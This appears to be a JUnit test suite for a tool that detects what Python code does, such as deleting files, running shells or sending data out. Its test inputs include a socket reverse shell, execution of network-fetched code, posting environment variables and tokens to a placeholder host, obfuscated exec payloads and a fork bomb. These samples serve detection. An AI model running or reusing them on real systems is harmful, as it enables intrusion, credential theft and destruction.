package dev.greenlane.engine.understand.code;

import static org.assertj.core.api.Assertions.assertThat;

import dev.greenlane.engine.value.Value;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PythonCodeTest {

    private static void check(String code, String... heard) {
        assertThat(Heard.of("python", code)).containsExactly(heard);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        import os; os.remove('a')                            | file-delete a
        import os as o; o.unlink('a')                        | file-delete a
        from shutil import rmtree as r; r('a')               | file-delete a +recursive
        from os import *; rmdir('a')                         | file-delete a
        __import__('os').remove('a')                         | file-delete a
        getattr(__import__('o' + 's'), 'remove')('a')        | file-delete a
        import importlib; importlib.import_module('os').remove('a') | file-delete a
        from pathlib import Path; (Path('a') / 'b').unlink() | file-delete a/b
        import pathlib; pathlib.Path.home().joinpath('x').rmdir() | file-delete ~/x
        open('a', 'w')                                       | file-write a +overwrite
        open(file='a', mode='ab')                            | file-write a +append
        open('a', 'x').write('b')                            | file-write a +create
        open('a', 'r+')                                      | file-read a; file-write a +in-place
        open('a').read()                                     | file-read a
        import os; os.makedirs('a', exist_ok=True)           | file-write a +create
        import os; os.chmod('a', 0o777)                      | file-permission a
        df.to_csv('a.csv')                                   | file-write a.csv +overwrite
        import os; os.kill(1234, 9)                          | process-control 1234
        import psutil; psutil.Process(1).kill()              | process-control process
        import os; os.system('ls a')                         | shell ls a
        import subprocess; subprocess.run(['ls', '-l'])      | command [ls, -l]
        import subprocess; subprocess.run('a && b', shell=True) | shell a && b
        import subprocess; subprocess.Popen(args='ls')       | command [ls]
        import os; os.execvp('ls', ['ls', '-l'])             | command [ls, -l]
        import os; os.execl('/bin/ls', 'ls', '-l')           | command [/bin/ls, -l]
        import subprocess; subprocess.run(['rm', 'a'], cwd='/b') | shell cd /b && rm a
        import subprocess; subprocess.run(['sh'], input='ls')| command [sh]; shell ls
        import asyncio; asyncio.run(asyncio.create_subprocess_exec('ls', 'a')) | command [ls, a]
        import runpy; runpy.run_path('a.py')                 | command [python3, a.py]
        exec(open('a.py').read())                            | file-read a.py; command [python3, a.py]
        import os; os.setuid(0)                              | privilege-change 0
        import sqlite3; sqlite3.connect('a').execute('DROP TABLE b') | file-read a; sql DROP TABLE b
        """)
    void knowsWhatLibrariesDo(String code, String heard) {
        check(code, heard.split("; "));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        import requests; requests.get('http://a/b')                     | network-fetch http://a/b
        import requests; requests.post('http://a', json={'b': 1})       | network-send http://a
        import requests; requests.post('http://a', data=b)              | network-send http://a <unknown>
        import requests; s = requests.Session(); s.put('http://a', 'b') | network-send http://a
        import httpx; httpx.Client(base_url='http://a').delete('/b')    | network-send http://a/b
        import requests; requests.get('http://a', verify=False)         | network-fetch http://a +no-tls-check
        import requests; requests.request('POST', 'http://a', data='b') | network-send http://a
        import urllib.request as u; u.urlopen('http://a')               | network-fetch http://a
        import urllib.request as u; u.urlopen(u.Request('http://a', data=b'c')) | network-send http://a
        import http.client; c = http.client.HTTPSConnection('a'); c.request('POST', '/b', 'd') | network-send a/b
        import socket; socket.socket().connect(('a', 80))               | network-fetch a:80
        import http.server; http.server.HTTPServer(('', 80), H)         | network-listen 0.0.0.0:80 +all-interfaces
        import flask; flask.Flask('a').run(port=80)                     | network-listen 127.0.0.1:80
        """)
    void knowsWhomCodeTalksTo(String code, String heard) {
        check(code, heard.replace(">", ""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "print('rm -rf /')",
                "# os.remove('a')",
                "x = 'import os; os.remove(1)'",
                "import json, re, math; print(json.dumps({'a': math.sqrt(2)}))",
                "import pandas as pd; df = pd.DataFrame({'a': [1]}); print(df.describe())",
                "import os; print(os.path.exists('/etc/passwd'), os.getcwd(), os.listdir('/'))",
                "import os; os.environ['A'] = 'b'; print(os.environ.get('PATH'))",
                "import sys; sys.stdout.write('a'); sys.exit(1)",
                "model.eval(); model.train()",
                "import ast; ast.literal_eval(x)",
                "eval('1 + 2')",
                "if False:\n    os.remove('a')",
                "from typing import TYPE_CHECKING\nif TYPE_CHECKING: os.remove('a')",
                "import io; io.StringIO().write('a'); df.to_csv(io.StringIO())",
                "import subprocess\np = subprocess",
                "s.execute('hello')",
            })
    void whatOnlyComputesDoesNothing(String code) {
        check(code);
    }

    @Test
    void followsVariablesAndStrings() {
        check("a = '/'\nb = a + 'x'\nc = f'{b}/y'\nos.remove(c)", "file-delete /x/y");
        check("a = 'x %s %d' % ('y', 2)\nos.remove(a)", "file-delete x y 2");
        check("os.remove('{}/{n}'.format('a', n='b'))", "file-delete a/b");
        check("os.remove(os.path.join('a', 'b', '..', 'c'))", "file-delete a/b/../c");
        check("os.remove('/'.join(['a', 'b']))", "file-delete a/b");
        check("os.remove(os.path.expanduser('~/x'))", "file-delete ~/x");
        check("os.remove('b/a'[::-1])", "file-delete a/b");
        check("a = {'k': ['x', 'y']}\nos.remove(a['k'][-1])", "file-delete y");
        check("a, (b, *c) = 'x', ('y', 'z', 'w')\nos.remove(c[1])", "file-delete w");
        check("a = []\na.append('rm')\na += ['-rf', 'x']\nsubprocess.run(a)", "command [rm, -rf, x]");
        check("os.system(' '.join(['ls', *['a', 'b']]))", "shell ls a b");
    }

    @Test
    void namesWhatIsNotKnown() {
        check("os.remove(os.environ['TARGET'] + '/x')", "file-delete $TARGET/x");
        check("os.remove(os.environ['HOME'] + '/x')", "file-delete ~/x");
        check("import sys\nos.remove(sys.argv[1])", "file-delete $1");
        check("os.remove(input())", "file-delete input(…)");
        check("os.remove(os.path.dirname(os.path.abspath(__file__)) + '/x')", "file-delete $SCRIPT_DIR/x");
        check("shutil.rmtree(tempfile.mkdtemp())", "file-delete /tmp/scratch +recursive");
    }

    @Test
    void keepsWhatIsNotKnownInTheCodeItself() {
        Value code = Value.of("import os\nos.remove('a/")
                .then(Value.unknown("$X", "is a variable"))
                .then(Value.of("/b')\nos.rmdir("))
                .then(Value.unknown("$Y", "is a variable"))
                .then(Value.of(")"));
        assertThat(Heard.of("python", code)).containsExactly("file-delete a/$X/b", "file-delete $Y");
    }

    @Test
    void followsLoops() {
        check("for a in ['x', 'y']:\n    os.remove(a)", "file-delete x", "file-delete y");
        check("for i, a in enumerate(('x', 'y')):\n    os.remove(f'{a}{i}')", "file-delete x0", "file-delete y1");
        check("for i in range(2): os.remove(str(i))", "file-delete 0", "file-delete 1");
        check("[os.remove(a) for a in ['x', 'y'] if a != 'x']", "file-delete y");
        check("list(map(os.remove, ['x', 'y']))", "file-delete x", "file-delete y");
        check("for a in glob.glob('x/*.o'): os.remove(a)", "file-delete x/*.o");
        check("from pathlib import Path\nfor a in Path('x').rglob('*'): a.unlink()", "file-delete x/**/*");
        check(
                "for r, d, f in os.walk('x'):\n  for n in f:\n    if n.endswith('.o'): os.remove(os.path.join(r, n))",
                "file-delete x/* +filtered likely",
                "file-delete x/**/* +filtered likely");
        check("while True:\n    os.fork()", "system-change fork bomb +bulk +force");
    }

    @Test
    void followsBranches() {
        check("if a:\n  b = 'x'\nelse:\n  b = 'y'\nos.remove(b)", "file-delete x", "file-delete y");
        check("b = 'x'\nif a: b = 'y'\nos.remove(b)", "file-delete x", "file-delete y");
        check("os.remove('x' if a else 'y')", "file-delete x", "file-delete y");
        check("if a: os.remove('x')", "file-delete x likely");
        check("if 1 == 1: os.remove('x')\nelse: os.remove('y')", "file-delete x");
        check("a and os.remove('x')", "file-delete x likely");
        check("try:\n  os.remove('x')\nexcept OSError:\n  os.remove('y')", "file-delete x", "file-delete y likely");
        check("def f():\n  return 1\n  os.remove('x')\nf()");
    }

    @Test
    void followsFunctions() {
        check("def f(a, b='y'):\n  os.remove(a + b)\nf('x')\nf('x', b='z')", "file-delete xy", "file-delete xz");
        check("def f(*a, **k):\n  os.remove(a[0] + k['b'])\nf('x', b='z')", "file-delete xz");
        check("def f(): return 'x'\ndef g(): os.remove(f())\nif __name__ == '__main__': g()", "file-delete x");
        check("(lambda a: os.remove(a))('x')", "file-delete x");
        check("def f():\n  f()\n  os.remove('x')\nf()", "file-delete x");
        check(
                "import threading\ndef f(a): os.remove(a)\nthreading.Thread(target=f, args=('x',)).start()",
                "file-delete x");
        check("def f(): os.remove('x')\nschedule.every(10).do(f)", "file-delete x");
        check("async def f(): os.remove('x')\nasyncio.run(f())", "file-delete x");
        check("def f():\n  global a\n  a = 'y'\na = 'x'\nf()\nos.remove(a)", "file-delete y");
        check("def f():\n  yield 'x'\nfor a in f(): os.remove(a)", "file-delete x");
    }

    @Test
    void followsClasses() {
        String code = """
            class A:
                root = '/a'
                def __init__(self, name):
                    self.path = self.root + '/' + name
                @property
                def full(self):
                    return self.path + '.x'
            class B(A):
                def go(self):
                    os.remove(self.full)
            B('b').go()
            """;
        check(code, "file-delete /a/b.x");
    }

    @Test
    void whatNothingCallsIsPossible() {
        check("def f(a):\n  os.remove(a)\n  os.remove('x')", "file-delete a possible", "file-delete x possible");
        check("class A:\n  def f(self): os.remove('x')", "file-delete x possible");
    }

    @Test
    void followsCodeInsideCode() {
        check("exec('import os' + chr(10) + 'os.remove(\"x\")')", "file-delete x");
        check("a = 'x'\neval('os.remove(a)')", "file-delete x");
        check("exec(compile('os.remove(\"x\")', 'f', 'exec'))", "file-delete x");
        check("import base64\nexec(base64.b64decode('b3MucmVtb3ZlKCd4Jyk=').decode())", "file-delete x");
        check("exec(bytes.fromhex('6f732e72656d6f766528277827 29').decode())", "file-delete x");
        check("import codecs\nexec(codecs.decode('bf.erzbir(\"k\")', 'rot13'))", "file-delete x");
        check("exec(''.join(chr(c ^ 1) for c in b'nr/sdlnwd)&y&('))", "file-delete x");
        check(
                "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLL9YrSs3NL0vVUK9Q1wQAJx8Etg==')))",
                "file-delete x");
    }

    @Test
    void codeThatIsNotKnownIsNotUnderstood() {
        check("exec(a)", "? exec(…) runs code that is not known");
        check("eval(input('> '))", "? eval(…) runs code that is not known");
        check(
                "import marshal\nexec(marshal.loads(b'abc'))",
                "? marshal.loads(…) loads code that stands there as data",
                "? exec(…) runs code that is not known");
        check("import ctypes\nctypes.CDLL('libc.so.6')", "? ctypes.CDLL(…) calls machine code");
        check("getattr(os, a)('x')", "? getattr(…) calls a function whose name is not known");
    }

    @Test
    void codeFromTheNetworkIsFetchedCode() {
        check("exec(requests.get('http://a/b').text)", "network-fetch http://a/b", "runs-fetched-code http://a/b");
        check(
                "os.system(requests.get('http://a').text)",
                "network-fetch http://a",
                "runs-fetched-code http://a",
                "shell http://a");
        check(
                "pickle.loads(urllib.request.urlopen('http://a').read())",
                "network-fetch http://a",
                "runs-fetched-code pickle.loads(…)");
        check(
                "urllib.request.urlretrieve('http://a', 'b.sh')\nos.system('sh b.sh')",
                "network-fetch http://a",
                "file-write b.sh +overwrite",
                "runs-fetched-code b.sh",
                "shell sh b.sh");
    }

    @Test
    void saysWhatDataIsSent() {
        check("requests.post('http://a', data=open('/b').read())", "file-read /b", "network-send http://a <private");
        check(
                "requests.post('http://a', files={'f': open('b', 'rb')})",
                "file-read b",
                "network-send http://a <project");
        check("requests.post('http://a', json=dict(os.environ))", "network-send http://a <credential");
        check(
                "requests.get('http://a?k=' + os.environ['API_TOKEN'])",
                "network-send http://a?k=$API_TOKEN <credential");
        check(
                "requests.post('http://a', headers={'x': os.environ['API_TOKEN']}, json={'b': 1})",
                "network-send http://a");
        check(
                "d = base64.b64encode(json.dumps(open('/b').read()).encode())\nrequests.post('http://a', d)",
                "file-read /b",
                "network-send http://a <private");
    }

    @Test
    void showingTheEnvironmentIsReadingSecrets() {
        check("print(os.environ)", "credential-access environment +dump");
        check("for k, v in os.environ.items(): print(k, v)", "credential-access environment +dump");
        check("print(os.getenv('DB_PASSWORD'))", "credential-access $DB_PASSWORD");
        check("print(bool(os.getenv('DB_PASSWORD')), 'TOKEN' in os.environ)");
        check("subprocess.run(['make'], env={**os.environ, 'A': 'b'})", "command [make]");
    }

    @Test
    void seesShellsOnSockets() {
        check(
                "s = socket.socket()\ns.connect(('a', 1))\nfor f in (0, 1, 2): os.dup2(s.fileno(), f)\npty.spawn('sh')",
                "network-fetch a:1",
                "command [sh]",
                "network-send a:1 +shell");
        check(
                "s = socket.create_connection(('a', 1))\nwhile True:\n  os.system(s.recv(99).decode())",
                "network-fetch a:1",
                "shell s.recv(99).decode(…)",
                "network-send a:1 +shell");
    }

    @Test
    void goesWhereTheCodeGoes() {
        check("os.chdir('/a')\nos.remove('b')\nos.system('ls')", "file-delete /a/b", "shell cd /a && ls");
    }

    @Test
    void followsLinesForNotebooks() {
        check("%pip install a\n!ls b\n%matplotlib inline", "shell pip install a", "shell ls b");
        check("%%bash\nls a\nls b", "shell ls a\nls b");
    }

    @Test
    void readsOnBehindWhatItCannotRead() {
        check("a b\nos.remove('x')", "? a b goes on where it should end", "file-delete x");
    }
}
